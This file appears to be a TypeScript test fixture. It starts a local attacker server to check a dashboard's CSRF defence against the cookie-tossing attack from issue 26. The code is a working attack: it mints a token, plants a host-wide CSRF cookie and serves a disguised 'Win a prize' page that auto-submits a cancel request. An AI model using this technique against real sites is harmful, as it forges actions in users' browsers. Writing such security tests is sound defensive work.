import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomBytes } from 'node:crypto';

/**
 * How the attacker gets a cookie/token pair: `own` plants a nonce of its choosing and asks the
 * dashboard for its token; `issued` takes the signed nonce cookie the dashboard hands it.
 */
export type AttackMode = 'own' | 'issued';

/** A page on another port of the dashboard's host (same site, another origin). */
export interface CsrfAttacker {
  /** `http://127.0.0.1:<port>`: same host as the dashboard, another port. */
  origin: string;
  /** The page that tosses the cookie and auto-submits a cancel of run `runId` at `mount`. */
  url(mount: string, runId: string, mode: AttackMode): string;
  close(): Promise<void>;
}

/**
 * Starts the attacker's server. Its page is the cookie-tossing attack of issue 26 (point 2): it
 * mints a token by fetching the dashboard (as a viewer the guard lets read), sets the matching
 * CSRF cookie with `Path=/` for the whole host (cookies do not isolate ports) and auto-submits a
 * cancel form to the dashboard from the operator's browser.
 */
export async function startCsrfAttacker(dashboardOrigin: string): Promise<CsrfAttacker> {
  const server: Server = createServer((req, res) => {
    const q = new URL(req.url ?? '/', 'http://attacker').searchParams;
    const [mount, runId, mode] = [q.get('mount'), q.get('run'), q.get('mode') as AttackMode];
    void (async () => {
      const runPage = `${dashboardOrigin}/api/${mount}/runs/${runId}`;
      let cookie = `cf_dashboard_csrf=${randomBytes(16).toString('hex')}`;
      const minted = await fetch(runPage, mode === 'own' ? { headers: { cookie } } : {});
      if (mode === 'issued') {
        const set = minted.headers.getSetCookie().find((c) => c.startsWith('cf_dashboard_csrf='));
        cookie = (set ?? '').split(';')[0];
      }
      const token = /name="_csrf"\s+value="([^"]+)"/.exec(await minted.text())?.[1] ?? '';
      res.setHeader('Set-Cookie', `${cookie}; Path=/`);
      res.setHeader('Content-Type', 'text/html; charset=utf-8');
      res.end(`<!doctype html><title>Win a prize</title>
<form method="post" action="${runPage}/cancel">
<input type="hidden" name="_csrf" value="${token}"><input type="hidden" name="confirm" value="yes">
</form><script>document.forms[0].submit()</script>`);
    })().catch((err: unknown) => {
      res.statusCode = 500;
      res.end(String(err));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    url: (mount, runId, mode) => `${origin}/?mount=${mount}&run=${runId}&mode=${mode}`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
